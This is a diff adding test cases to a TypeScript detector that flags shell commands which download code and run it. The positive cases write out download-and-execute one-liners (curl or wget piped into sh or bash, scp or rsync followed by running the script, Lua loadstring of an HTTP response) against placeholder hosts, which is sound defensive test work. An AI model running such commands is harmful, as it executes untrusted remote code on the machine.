@@ -11,6 +11,28 @@ const kinds = (text: string) => selfUpdates(commandsOfText(text)).map(({ what })
 
 describe('selfUpdates', () => {
   it.each([
+    'scp build@host:run.sh . && sh run.sh',
+    'scp u@h:/srv/run.sh /tmp/ && /tmp/run.sh',
+    'rsync h::share/run.sh . && ./run.sh',
+    'echo https://x.test/i.sh | xargs curl | sh',
+    'xargs -n1 wget -qO- < addresses | bash',
+    `lua -e 'loadstring(http.request("http://x.test/a"))()'`,
+  ])('%s downloads what it runs', (text) => {
+    expect(kinds(text)).toContain('download-run');
+  });
+
+  it.each([
+    'scp run.sh build@host:/srv/ && sh run.sh',
+    'rsync -a ./site/ /srv/site/ && exec app',
+    'echo https://x.test/data | xargs curl -o /data/x && exec app',
+    'xargs curl -V < /dev/null; exec app',
+    `lua -e 'print(http.request("http://x.test/health"))'`,
+    'curl; exec app',
+  ])('%s does not', (text) => {
+    expect(kinds(text)).not.toContain('download-run');
+  });
+
+  it.each([
     'apt-get install -y jq',
     'DEBIAN_FRONTEND=noninteractive apt-get -qq -o Dpkg::Use-Pty=0 install jq',
     'apt update',
